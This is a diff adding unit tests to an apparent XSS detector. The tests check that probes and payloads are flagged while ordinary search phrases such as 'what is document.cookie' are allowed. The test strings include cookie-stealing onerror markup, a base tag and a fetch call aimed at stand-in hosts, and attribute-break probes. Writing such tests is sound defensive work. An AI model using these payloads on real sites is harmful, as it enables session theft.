@@ -41,6 +41,8 @@ INSTANTIATE_TEST_SUITE_P(
         "document.getElementById('x').innerHTML = '<b>'",
         // legacy IE markup and the 7-bit US-ASCII trick
         "<?import namespace=\"t\" implementation=\"#default#time2\">",
+        // the same with the separator dropped (a filter that strips spaces)
+        "<importimplementation=", "<import/implementation=\"x.htc\"",
         // probes: the attribute break with the handler value still to come; the bare scheme
         "<link / asdf href  /= ", "<BASE dsfds HREF / =", "<base href=//evil.example/>",
         "\"onzoom=", "<\"onpointerenter=", "javascript: \t", "javascript:\\u0020",
@@ -398,6 +400,46 @@ TEST(XssDomAccess, APropertyNamedInASentenceIsProse) {
                      "please never paste your document.cookie here"});
   ExpectJsonXss({"document.cookie", "x'+document.cookie+'", "we read document.cookie; then it",
                  "\"><img src=x onerror=alert(document.cookie)>"});
+}
+
+// Shorter searches: only words before the property, or a plain word right after it. Two
+// names side by side on one line are a syntax error in any script context. A keyword that
+// takes an expression ("void", "typeof", "in") keeps it code.
+TEST(XssDomAccess, APropertyNextToAPlainWordIsProse) {
+  ExpectJsonAllowed({"what is document.cookie", "how to use window.location in react",
+                     "document.cookie not working in safari", "localStorage vs document.cookie",
+                     "window.location.href not working", "document.location undefined"});
+  ExpectJsonXss({"void document.cookie", "document.cookie in x", "typeof document.cookie",
+                 "x;document.cookie not", "document.cookie.split"});
+}
+
+// The properties that redirect the page score like document.cookie on their own (CRS
+// 941180); a plain word beside them is still prose (above).
+TEST(XssDomAccess, WindowLocationAloneIsScript) {
+  ExpectJsonXss({"window.location", "document.location", "window.location.href"});
+  for (const char* v : {"window.location", "document.location"}) {
+    EXPECT_TRUE(HasRule(InspectQueryValue(v), "xss.dom-access")) << v;
+  }
+}
+
+// btoa() encodes what an injected script sends away (btoa(document.cookie)); called like
+// atob() it is a sink. Named in prose it is not.
+TEST(XssJsSink, BtoaCallIsASink) {
+  ExpectJsonXss({"btoa()", "btoa(document.cookie)", "fetch('//e.example/?'+btoa(x))"});
+  ExpectJsonAllowed({"btoa is a function", "Use btoa() to encode a string"});
+}
+
+// `'formaction=` ending a value: the quote that closes the application's attribute, then
+// the attribute that points a button's form at a URL (CRS 941160), like `'onfocus=`.
+// The attribute named without a quote before it is no break.
+TEST(XssAttributeBreak, FormactionProbeAtTheEnd) {
+  for (const char* v : {"'formaction=", "\" formaction=", "x\" formaction = "}) {
+    EXPECT_TRUE(HasRule(InspectQueryValue(v), "xss.attribute-break")) << v;
+  }
+  for (const char* v :
+       {"formaction=", "the formaction=", "'formaction' attribute", "formaction='/save'"}) {
+    EXPECT_FALSE(HasRule(InspectQueryValue(v), "xss.attribute-break")) << v;
+  }
 }
 
 // Generic type parameters glued to a type's name ("java.util.List<String>", "Map<K, V>") are
